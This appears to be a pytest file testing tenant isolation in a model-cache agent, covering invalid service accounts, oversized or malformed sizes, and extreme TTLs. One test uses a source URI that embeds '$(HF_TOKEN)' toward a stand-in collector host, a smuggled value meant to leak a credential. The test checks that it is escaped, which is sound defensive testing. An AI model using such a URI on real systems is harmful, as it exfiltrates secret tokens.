"""What one tenant's cache may do to another's: nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from support.agent import JOBS, URI, World

from localmodel.agent.checks import CHECK_LABEL
from localmodel.runtime.objects import Job, ServiceAccount


@pytest.fixture
def world(tmp_path: Path) -> World:
    world = World(tmp_path)
    world.set_config(downloadImage="localmodel-agent:1")
    for name in ("ours", "theirs"):
        world.client.create(ServiceAccount.from_dict({"metadata": {"name": name, "namespace": JOBS}}))
    return world


def cache(namespace: str, account: str = "", **fields: Any) -> dict[str, Any]:
    entry = {"modelName": "m", "namespace": namespace, "sourceModelUri": URI, **fields}
    return {**entry, "serviceAccountName": account} if account else entry


def jobs(world: World, *, checks: bool = False) -> list[Job]:
    return [job for job in world.jobs if (CHECK_LABEL in job.metadata.labels) is checks]


def test_a_variable_in_a_uri_is_not_expanded_in_a_check_of_credentials(world: World) -> None:
    uri = "https://collector.example.com/$(HF_TOKEN)/model.bin"
    world.want(cache("team-a", sourceModelUri=uri))
    world.run()
    world.download(jobs(world)[0])
    world.want(cache("team-a", sourceModelUri=uri), cache("team-b", "theirs", sourceModelUri=uri))
    world.run()
    (check,) = jobs(world, checks=True)
    assert check.spec.template["spec"]["containers"][0]["args"] == ["--check", uri.replace("$", "$$")]


@pytest.mark.parametrize("fields", [{}, {"revision": "v0"}], ids=["same files", "other files"])
def test_an_account_that_does_not_exist_keeps_no_other_cache_from_the_model_d17(
    world: World, fields: dict[str, Any]
) -> None:
    world.want(cache("team-a", "missing", **fields), cache("team-b", "ours"))
    world.run()
    assert world.status("team-a/m") == "ModelDownloadError"
    assert world.model("team-a/m").reason == "CredentialsInvalid"
    world.run()
    (job,) = jobs(world)
    assert job.spec.template["spec"]["serviceAccountName"] == "ours"
    world.download(job)
    world.run()
    assert world.status("team-b/m") == "ModelDownloaded"


def test_a_size_that_another_cache_makes_up_does_not_keep_the_model_away(world: World) -> None:
    world.want(cache("team-a", modelSize="1Ei"), cache("team-b", modelSize="1Mi"))
    world.run()
    assert len(jobs(world)) == 1


def test_a_size_that_cannot_be_read_stops_only_the_cache_that_has_it(world: World) -> None:
    world.want(cache("team-a", modelSize="plenty"), cache("team-b", modelSize="1Mi"))
    world.run()
    assert len(jobs(world)) == 1


@pytest.mark.parametrize("size", ["1e30", "8Ei", "1e99999", "1e9999999", "9" * 5000, "-5Gi", "plenty"])
def test_no_size_that_a_cache_makes_up_stops_the_others(world: World, size: str) -> None:
    other = "s3://other/model"
    world.want(cache("team-a", modelSize=size), cache("team-b", sourceModelUri=other, modelSize="1Mi"))
    world.run()
    (job,) = [job for job in jobs(world) if job.metadata.labels["modelNamespace"] == "team-b"]
    world.download(job)
    world.run()
    assert world.status("team-b/m") == "ModelDownloaded"
    assert 0 <= (world.model("team-a/m").size_bytes or 0) < 1 << 63


def test_no_time_to_live_that_a_cache_makes_up_stops_the_others(world: World) -> None:
    other = "s3://other/model"
    long = cache("team-a", ttlSecondsAfterLastUse=(1 << 63) - 1)
    world.want(long)
    world.run()
    world.download(jobs(world)[0])
    world.run()
    world.want(long, cache("team-b", sourceModelUri=other))
    world.run()
    assert {world.status("team-a/m"), world.status("team-b/m")} == {"ModelDownloaded", "ModelDownloadPending"}
